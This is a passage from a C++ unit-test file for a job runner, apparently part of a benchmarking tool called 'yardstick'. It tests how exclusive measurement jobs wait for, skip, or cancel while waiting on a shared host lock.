  EXPECT_TRUE(r->done());
  EXPECT_TRUE(neighbour.try_acquire("agent b, job 10", &error));
  const std::string log = sent_log(sink);
  EXPECT_NE(log.find("waiting for the host: another measurement holds " + dir +
                     "/host.lock (agent b, job 9)"),
            std::string::npos)
      << log;
  EXPECT_NE(log.find("the host is free after 1.2 s of waiting; starting"), std::string::npos)
      << log;
  std::filesystem::remove_all(dir);
}

TEST_F(JobRunnerTest, AJobThatDoesNotMeasureNeverWaitsForTheHost) {
  const std::string dir = home.string() + "-lock";
  HostLock lock(dir), neighbour(dir);
  options.host_lock = &lock;
  std::string error;
  auto held = neighbour.try_acquire("agent b", &error);
  job.steps = {{"build", "true", {}, true, 0, {}, {}}};  // one slot: not exclusive
  auto r = make();
  r->start();
  EXPECT_EQ(launcher.requests.size(), 1u);
  std::filesystem::remove_all(dir);
}

TEST_F(JobRunnerTest, ACancelWhileWaitingForTheHostEndsTheJobRunningNothing) {
  const std::string dir = home.string() + "-lock";
  HostLock lock(dir), neighbour(dir);
  options.host_lock = &lock;
  std::string error;
  auto held = neighbour.try_acquire("agent b", &error);
  job.slots = kExclusiveSlots;
  job.steps = {{"measure", "true", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  r->cancel("cancelled by request");
  EXPECT_TRUE(r->done());
  EXPECT_EQ(sink.outcome, JobOutcome::kCancelled);
  EXPECT_TRUE(launcher.requests.empty());
  std::filesystem::remove_all(dir);
}

}  // namespace
}  // namespace yardstick
